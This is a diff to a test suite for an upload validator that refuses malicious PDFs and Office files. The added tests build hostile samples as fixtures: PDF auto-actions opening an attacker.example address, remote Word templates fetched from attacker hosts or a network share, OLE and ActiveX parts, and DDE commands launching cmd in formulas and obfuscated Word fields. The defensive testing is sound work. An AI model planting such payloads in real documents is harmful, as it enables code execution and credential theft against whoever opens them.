@@ -250,6 +250,9 @@ describe('sniffEvidence: refusals', () => {
     expect(await reason(pdfWith(js), 'a.pdf')).toBe(PDF_ACTIVE);
     expect(await reason(pdfWith('1 0 obj<</AA<</O<</JS 2 0 R>>>>>>endobj'), 'a.pdf')).toBe(PDF_ACTIVE);
     expect(await reason(pdfWith('1 0 obj<</S/Launch/F(cmd.exe)>>endobj'), 'a.pdf')).toBe(PDF_ACTIVE);
+    // Additional actions run on their own (a page opened): a web address opened that way (attacker pass 25).
+    const openUri = '3 0 obj<</Type/Page/AA<</O<</S/URI/URI(http://attacker.example/x)>>>>>>endobj';
+    expect(await reason(pdfWith(openUri), 'a.pdf')).toBe(PDF_ACTIVE);
     expect(await reason(pdfWith('1 0 obj<</Type/EmbeddedFile>>endobj'), 'a.pdf')).toBe(PDF_ACTIVE);
     expect(await reason(pdfWith('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj'), 'a.pdf')).toBe(PDF_ACTIVE);
     for (const escaped of ['/J#61vaScript', '/#4aavaScript', '/J#53', '/#4C#61unch', '/Embedded#46iles']) {
@@ -541,6 +544,58 @@ describe('sniffEvidence: refusals', () => {
     expect(await reason(await withEntry(DOCX, 'word/vbaProject.bin'), 'a.docx')).toBe(MACRO);
     expect(await reason(await withEntry(XLSX, 'xl/vbaProject.bin'), 'a.xlsx')).toBe(MACRO);
     expect(await reason(office('word/document.xml', { name: 'word/VBAPROJECT.BIN' }), 'a.docx')).toBe(MACRO);
+  });
+
+  it('refuses Office files that load or run something when opened, and keeps what reports hold (attacker pass 25)', async () => {
+    const ACTIVE =
+      'Tệp Office chứa đối tượng nhúng, liên kết tới tệp bên ngoài hoặc lệnh DDE, không được chấp nhận. Hãy lưu lại thành PDF rồi chọn lại.';
+    const withPart = async (file: Uint8Array, name: string, text: string) => {
+      const z = await JSZip.loadAsync(file);
+      z.file(name, text);
+      return new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
+    };
+    const rels = (...r: string[]) =>
+      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${r.join('')}</Relationships>`;
+    const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+    const template = (target: string) =>
+      `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="${target}" TargetMode="External"/>`;
+    const settingsRels = 'word/_rels/settings.xml.rels';
+    // A remote template (Word fetches it; a \\host\share address sends the Windows credentials), over http or a share,
+    // with its attributes in any order or a ">" inside a value; an OLE object; ActiveX; a workbook's DDE link.
+    for (const target of ['http://attacker.example/tpl.dotm', '\\\\attacker\\share\\t.dotm', 'file://attacker/t.dotm'])
+      expect(await reason(await withPart(DOCX, settingsRels, rels(template(target))), 'a.docx'), target).toBe(ACTIVE);
+    const reordered = `<Relationship TargetMode="External" Target="http://a.example/x>y" Id="r9" Type="${REL}/oleObject"/>`;
+    expect(await reason(await withPart(DOCX, 'word/_rels/document.xml.rels', rels(reordered)), 'a.docx')).toBe(ACTIVE);
+    expect(await reason(await withPart(DOCX, 'word/embeddings/oleObject1.bin', 'x'), 'a.docx')).toBe(ACTIVE);
+    expect(await reason(await withPart(DOCX, 'word/activeX/activeX1.xml', '<x/>'), 'a.docx')).toBe(ACTIVE);
+    const dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>';
+    expect(await reason(await withPart(XLSX, 'xl/externalLinks/externalLink1.xml', dde), 'a.xlsx')).toBe(ACTIVE);
+    // DDE in a sheet's formula, in a Word field (whole, split over runs, or written with a character reference).
+    const sheet = (f: string) =>
+      `<worksheet><sheetData><row r="1"><c r="A1"><f>${f}</f></c></row></sheetData></worksheet>`;
+    expect(await reason(await withPart(XLSX, 'xl/worksheets/sheet1.xml', sheet("cmd|' /C calc'!A0")), 'a.xlsx')).toBe(
+      ACTIVE,
+    );
+    const doc = (body: string) => `<w:document xmlns:w="w"><w:body><w:p>${body}</w:p></w:body></w:document>`;
+    for (const body of [
+      '<w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"\'/>',
+      '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO cmd "/k calc"</w:instrText></w:r>',
+      '<w:r><w:instrText>&#68;DE cmd "/k calc"</w:instrText></w:r>',
+    ])
+      expect(await reason(await withPart(DOCX, 'word/document.xml', doc(body)), 'a.docx'), body).toBe(ACTIVE);
+    // What real reports hold stays: hyperlinks, a picture linked from a web page, a template on the computer's own
+    // drive, a chart's embedded workbook, fields such as a table of contents, a formula with "|" inside a string.
+    const kept = rels(
+      `<Relationship Id="r1" Type="${REL}/hyperlink" Target="https://chinhphu.vn" TargetMode="External"/>`,
+      `<Relationship Id="r2" Type="${REL}/image" Target="https://baochinhphu.vn/a.jpg" TargetMode="External"/>`,
+    );
+    let docx = await withPart(DOCX, 'word/_rels/document.xml.rels', kept);
+    docx = await withPart(docx, settingsRels, rels(template('file:///C:\\Users\\vanthu\\Mau-cong-van.dotx')));
+    docx = await withPart(docx, 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', 'x');
+    docx = await withPart(docx, 'word/document.xml', doc('<w:r><w:instrText> TOC \\o "1-3" \\h </w:instrText></w:r>'));
+    expect(await sniffedExt(docx, 'bao-cao.docx')).toBe('docx');
+    const pipe = await withPart(XLSX, 'xl/worksheets/sheet1.xml', sheet('TEXTJOIN("|",TRUE,A2:A9)'));
+    expect(await sniffedExt(pipe, 'a.xlsx')).toBe('xlsx');
   });
 
   it('refuses ZIPs that are not DOCX or XLSX', async () => {
